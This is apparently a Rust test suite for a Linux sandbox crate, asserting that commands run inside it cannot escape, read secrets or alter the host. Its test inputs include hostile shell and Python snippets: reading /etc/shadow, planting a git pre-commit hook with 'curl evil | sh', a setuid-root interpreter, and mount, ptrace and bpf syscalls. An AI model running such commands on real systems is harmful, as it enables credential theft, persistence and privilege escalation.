//! Each case: the attempt fails, and the host is unchanged.

use std::io::ErrorKind;

use super::{landlock_denials, policy, python, sh, stderr, stdout, workspace};

#[test]
fn host_files_outside_the_view_cannot_be_read() {
    let ws = workspace();
    let outside = tempfile::tempdir_in("/var/tmp").unwrap();
    std::fs::write(outside.path().join("secret"), "host secret").unwrap();
    let script = format!("cat {}/secret; ls /root; cat /etc/shadow; echo done", outside.path().display());
    let outcome = sh(&policy(ws.path()), &script);
    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
    assert!(stderr(&outcome).contains("No such file"), "{}", stderr(&outcome));
}

#[test]
fn hidden_paths_inside_the_workspace_are_empty() {
    let ws = workspace();
    let data = ws.path().join(".codexos");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("owner.key"), "cxo_secret").unwrap();
    let mut policy = policy(ws.path());
    policy.hidden_paths.push(data.clone());
    let outcome = sh(&policy, "cat .codexos/owner.key; ls -A .codexos; echo done");
    assert_eq!(stdout(&outcome), "done\n");
    assert_eq!(std::fs::read_to_string(data.join("owner.key")).unwrap(), "cxo_secret");
}

#[test]
fn nothing_outside_the_workspace_can_be_written() {
    let ws = workspace();
    let outcome = sh(
        &policy(ws.path()),
        "for target in /etc/codexos-x /usr/codexos-x /codexos-x /proc/sys/kernel/hostname; do \
           echo pwned > $target 2>/dev/null && echo WROTE $target; done; \
         echo inside > /tmp/codexos-inside-only; echo ok > in-workspace; echo done",
    );
    assert_eq!(stdout(&outcome), "done\n");
    for host_path in ["/etc/codexos-x", "/usr/codexos-x", "/codexos-x", "/tmp/codexos-inside-only"] {
        assert!(!std::path::Path::new(host_path).exists(), "{host_path} reached the host");
    }
    assert_ne!(std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap(), "pwned\n");
    assert_eq!(std::fs::read_to_string(ws.path().join("in-workspace")).unwrap(), "ok\n");
}

#[test]
fn git_hooks_and_config_are_read_only() {
    let ws = workspace();
    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    std::fs::write(ws.path().join(".git/config"), "[core]\n").unwrap();
    let outcome = sh(
        &policy(ws.path()),
        "echo 'curl evil | sh' > .git/hooks/pre-commit && echo HOOK; \
         echo '[core] fsmonitor = evil' >> .git/config && echo CONFIG; \
         echo ok > .git/HEAD && echo HEAD",
    );
    assert_eq!(stdout(&outcome), "HEAD\n", "{}", stderr(&outcome));
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
    assert_eq!(std::fs::read_to_string(ws.path().join(".git/config")).unwrap(), "[core]\n");
    // Nor can .git be swapped for a fresh one with hooks of its own.
    let outcome = sh(
        &policy(ws.path()),
        "mv .git .git-old && echo MOVED; rm -rf .git 2>/dev/null; mkdir -p .git/hooks 2>/dev/null; \
         echo evil > .git/hooks/post-checkout 2>/dev/null && echo PLANTED; echo done",
    );
    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
    assert!(ws.path().join(".git/config").exists() && !ws.path().join(".git-old").exists());
    assert!(!ws.path().join(".git/hooks/post-checkout").exists());
}

#[test]
fn a_repository_without_hooks_gets_a_read_only_hooks_directory() {
    let ws = workspace();
    std::fs::create_dir_all(ws.path().join(".git")).unwrap();
    let outcome = sh(&policy(ws.path()), "echo evil > .git/hooks/pre-commit && echo PLANTED; echo done");
    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
    assert!(ws.path().join(".git/hooks").is_dir());
    assert!(!ws.path().join(".git/hooks/pre-commit").exists());
}

#[test]
fn symlinked_git_hooks_are_refused() {
    let ws = workspace();
    std::fs::create_dir_all(ws.path().join(".git")).unwrap();
    std::fs::create_dir_all(ws.path().join("tools/hooks")).unwrap();
    std::os::unix::fs::symlink("../tools/hooks", ws.path().join(".git/hooks")).unwrap();
    let command = codexos_sandbox::SandboxCommand { argv: vec!["true".into()], ..Default::default() };
    let err = codexos_sandbox::run(&policy(ws.path()), &command).unwrap_err();
    assert!(err.to_string().contains(".git/hooks is a symbolic link"), "{err}");
}

#[test]
fn the_hosts_loopback_services_are_unreachable() {
    let ws = workspace();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let outcome = python(
        &policy(ws.path()),
        &format!(
            "import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2)\n    print('CONNECTED')\nexcept OSError as e:\n    print('refused', e.errno)"
        ),
    );
    assert!(stdout(&outcome).starts_with("refused"), "{}{}", stdout(&outcome), stderr(&outcome));
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "a connection arrived");
    if let Some(denials) = landlock_denials(&outcome) {
        assert_eq!(denials, [format!("net.connect_tcp denied: 127.0.0.1:{port}")]);
    }
}

#[test]
fn the_outside_world_is_unreachable() {
    let ws = workspace();
    let outcome = python(
        &policy(ws.path()),
        "import socket\n\
         for attempt in (lambda: socket.getaddrinfo('example.com', 443), lambda: socket.create_connection(('1.1.1.1', 53), timeout=2)):\n\
         \x20   try:\n\
         \x20       attempt()\n\
         \x20       print('REACHED')\n\
         \x20   except OSError as e:\n\
         \x20       print('blocked')",
    );
    assert_eq!(stdout(&outcome), "blocked\nblocked\n", "{}", stderr(&outcome));
    // The name lookup fails for want of a resolver; the connection is refused by Landlock.
    if let Some(denials) = landlock_denials(&outcome) {
        assert_eq!(denials, ["net.connect_tcp denied: 1.1.1.1:53"]);
    }
}

#[test]
fn landlock_denials_are_reported_with_what_was_refused_and_how_often() {
    let ws = workspace();
    // The sandbox's init is PID 1, outside the command's Landlock domain:
    // signalling it is refused like signalling any process outside.
    let outcome = python(
        &policy(ws.path()),
        "import os, socket\n\
         for port in (5432, 5432, 8080):\n\
         \x20   try:\n\
         \x20       socket.socket().connect(('127.0.0.1', port))\n\
         \x20   except OSError as e:\n\
         \x20       print(e.errno)\n\
         try:\n\
         \x20   os.kill(1, 15)\n\
         except OSError as e:\n\
         \x20   print(e.errno)",
    );
    // Reporting needs Landlock ABI 7; older kernels refuse these otherwise or not at all.
    let Some(denials) = landlock_denials(&outcome) else { return };
    assert_eq!(stdout(&outcome), "13\n13\n13\n1\n", "{}", stderr(&outcome));
    assert_eq!(denials.len(), 3, "{denials:?}");
    assert_eq!(denials[0], "net.connect_tcp denied: 127.0.0.1:5432 (2 times)");
    assert_eq!(denials[1], "net.connect_tcp denied: 127.0.0.1:8080");
    assert!(denials[2].starts_with("scope.signal denied: a process outside the command's domain ("), "{denials:?}");
    // Nothing of another sandbox leaks into this one's report.
    let quiet = sh(&policy(ws.path()), "true");
    assert_eq!(landlock_denials(&quiet), Some(Vec::new()));
}

#[test]
fn raw_and_packet_sockets_are_refused() {
    let ws = workspace();
    let outcome = python(
        &policy(ws.path()),
        "import socket\n\
         for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_NETLINK, socket.SOCK_RAW, 0)):\n\
         \x20   try:\n\
         \x20       socket.socket(family, kind, proto)\n\
         \x20       print('OPENED')\n\
         \x20   except OSError as e:\n\
         \x20       print('refused')",
    );
    assert_eq!(stdout(&outcome), "refused\nrefused\nrefused\n", "{}", stderr(&outcome));
    assert!(
        outcome.violations.iter().any(|violation| violation.detail.starts_with("socket (address family) denied")),
        "{:?}",
        outcome.violations
    );
}

#[test]
fn host_processes_are_invisible_and_untouchable() {
    let ws = workspace();
    let me = std::process::id();
    let outcome = sh(
        &policy(ws.path()),
        &format!(
            "ls /proc | grep -E '^[0-9]+$' | tr '\\n' ' '; echo; kill -0 {me} 2>/dev/null && echo SIGNALLED; echo done"
        ),
    );
    let out = stdout(&outcome);
    let pids: Vec<u32> = out.lines().next().unwrap().split_whitespace().map(|pid| pid.parse().unwrap()).collect();
    assert!(pids.len() <= 6 && pids.iter().all(|pid| *pid < 10), "host pids visible: {pids:?}");
    assert!(out.ends_with("done\n") && !out.contains("SIGNALLED"), "{out}");
}

#[test]
fn dangerous_syscalls_are_denied() {
    let ws = workspace();
    // errno 1 is EPERM: the seccomp filter's answer.
    // The raw syscall numbers are this architecture's, given by the libc crate.
    let prelude = format!("KEYCTL = {}\nBPF = {}\n", libc::SYS_keyctl, libc::SYS_bpf);
    let outcome = python(
        &policy(ws.path()),
        &(prelude
            + "import ctypes, os\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         os.mkdir('/tmp/m')\n\
         checks = [\n\
         \x20   ('mount', lambda: libc.mount(b'none', b'/tmp/m', b'tmpfs', 0, None)),\n\
         \x20   ('ptrace', lambda: libc.ptrace(16, 1, 0, 0)),\n\
         \x20   ('unshare', lambda: libc.unshare(0x10000000)),\n\
         \x20   ('keyctl', lambda: libc.syscall(KEYCTL, 0, 0, 0, 0)),\n\
         \x20   ('bpf', lambda: libc.syscall(BPF, 0, 0, 0)),\n\
         ]\n\
         for name, call in checks:\n\
         \x20   result = call()\n\
         \x20   print(name, result, ctypes.get_errno())"),
    );
    assert_eq!(
        stdout(&outcome),
        "mount -1 1\nptrace -1 1\nunshare -1 1\nkeyctl -1 1\nbpf -1 1\n",
        "{}",
        stderr(&outcome)
    );
    // ...and each attempt is reported by name.
    let denied: Vec<&str> = outcome
        .violations
        .iter()
        .filter(|violation| violation.kind == codexos_sandbox::ViolationKind::SyscallDenied)
        .map(|violation| violation.detail.as_str())
        .collect();
    assert_eq!(denied, ["mount denied", "ptrace denied", "unshare denied", "keyctl denied", "bpf denied"]);
}

#[test]
fn nested_user_namespaces_cannot_be_created() {
    let ws = workspace();
    let outcome = sh(&policy(ws.path()), "unshare -U true && echo NESTED; unshare -r true && echo NESTED; echo done");
    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
    // Refused, not merely missing.
    assert_eq!(stderr(&outcome).matches("Operation not permitted").count(), 2, "{}", stderr(&outcome));
}

#[test]
fn no_privilege_can_be_gained() {
    let ws = workspace();
    let outcome =
        sh(&policy(ws.path()), "grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb)' /proc/self/status");
    let status = stdout(&outcome);
    assert!(status.contains("NoNewPrivs:\t1"), "{status}");
    for line in status.lines().filter(|line| line.starts_with("Cap")) {
        assert!(line.ends_with("0000000000000000"), "capability left: {line}");
    }
    // setuid bits are ignored on every mount of the view.
    let outcome = sh(&policy(ws.path()), "awk '$5 == \"/usr\" {print $6}' /proc/self/mountinfo");
    assert!(stdout(&outcome).contains("nosuid"), "{}", stdout(&outcome));
}

#[test]
fn daemons_and_double_forks_die_with_the_sandbox() {
    let ws = workspace();
    // A sleep length nobody else uses marks our daemons in the host's /proc.
    let marker = format!("7{}", std::process::id());
    let script = format!("(setsid sleep {marker} &) ; (sh -c '(sleep {marker} &)' &) ; sleep 0.2; echo started");
    let outcome = sh(&policy(ws.path()), &script);
    assert_eq!(stdout(&outcome), "started\n", "{}", stderr(&outcome));
    let survivors: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| std::fs::read(entry.ok()?.path().join("cmdline")).ok())
        .map(|cmdline| String::from_utf8_lossy(&cmdline).into_owned())
        .filter(|cmdline| cmdline == &format!("sleep\0{marker}\0"))
        .collect();
    assert!(survivors.is_empty(), "left behind: {survivors:?}");
}

#[test]
fn the_platforms_open_descriptors_do_not_leak_in() {
    let ws = workspace();
    // A descriptor without close-on-exec, as a careless library would leave.
    let secret = ws.path().join("secret");
    std::fs::write(&secret, "x").unwrap();
    let path = std::ffi::CString::new(secret.to_str().unwrap()).unwrap();
    // SAFETY: opens a file; the descriptor is closed below.
    let leaked = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY) };
    assert!(leaked > 2);
    let outcome = sh(&policy(ws.path()), "ls /proc/self/fd | sort -n | tr '\\n' ' '");
    // SAFETY: closes the descriptor opened above.
    unsafe { libc::close(leaked) };
    // 0-2 are stdio; 3 is ls's own handle on the directory it lists.
    assert_eq!(stdout(&outcome), "0 1 2 3 ", "{}", stderr(&outcome));
}

#[test]
fn hidden_paths_are_masked_whatever_path_names_them() {
    let ws = workspace();
    std::fs::create_dir(ws.path().join("data")).unwrap();
    std::fs::write(ws.path().join("data/owner.key"), "cxo_secret").unwrap();
    let alias = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(ws.path(), alias.path().join("ws")).unwrap();
    let mut policy = policy(ws.path());
    // Named through a symlink, as a home directory under /var/home would be.
    policy.hidden_paths.push(alias.path().join("ws/data"));
    let outcome = sh(&policy, "cat data/owner.key; echo done");
    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
}

/// Regression: a hidden path outside the workspace under /tmp (the CLI hides
/// its data directory, wherever it is) failed the setup, because /tmp inside
/// is a fresh file system where the host's path does not exist.
#[test]
fn hidden_paths_outside_the_view_are_simply_absent() {
    let ws = workspace();
    let elsewhere = tempfile::tempdir().unwrap();
    let mut policy = policy(ws.path());
    policy.hidden_paths.push(elsewhere.path().join(".codexos"));
    std::fs::create_dir(elsewhere.path().join(".codexos")).unwrap();
    let outcome = sh(&policy, &format!("ls {} 2>/dev/null; echo done", elsewhere.path().display()));
    assert_eq!(stdout(&outcome), "done\n", "{}", stderr(&outcome));
}

#[test]
fn a_setuid_binary_grants_nothing() {
    let ws = workspace();
    // A setuid-root copy of an interpreter, as an attacker would plant one.
    let planted = ws.path().join("suid-python");
    std::fs::copy("/usr/bin/python3", &planted).unwrap();
    std::fs::set_permissions(&planted, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
    let outcome = sh(
        &policy(ws.path()),
        "./suid-python -c \"import os; s = open('/proc/self/status').read(); \
         print([l for l in s.splitlines() if l.startswith(('CapEff', 'CapPrm'))], os.geteuid() == os.getuid())\"",
    );
    assert_eq!(
        stdout(&outcome),
        "['CapPrm:\\t0000000000000000', 'CapEff:\\t0000000000000000'] True\n",
        "{}",
        stderr(&outcome)
    );
}

#[test]
fn a_command_denied_in_a_loop_is_killed_before_it_floods_the_audit_log() {
    let ws = workspace();
    let mut policy = policy(ws.path());
    policy.limits.timeout = std::time::Duration::from_secs(10);
    let outcome = python(
        &policy,
        "import socket\n\
         while True:\n\
         \x20   try:\n\
         \x20       socket.socket().connect(('127.0.0.1', 9))\n\
         \x20   except OSError:\n\
         \x20       pass",
    );
    if landlock_denials(&outcome).is_none() {
        // Nothing is logged, so nothing floods: only the timeout ends it.
        assert!(outcome.has_violation(codexos_sandbox::ViolationKind::Timeout), "{:?}", outcome.violations);
        return;
    }
    assert!(outcome.has_violation(codexos_sandbox::ViolationKind::DenialLimit), "{:?}", outcome.violations);
    assert!(!outcome.has_violation(codexos_sandbox::ViolationKind::Timeout), "{:?}", outcome.violations);
    assert_eq!(outcome.signal, Some(9), "{outcome:?}");
}
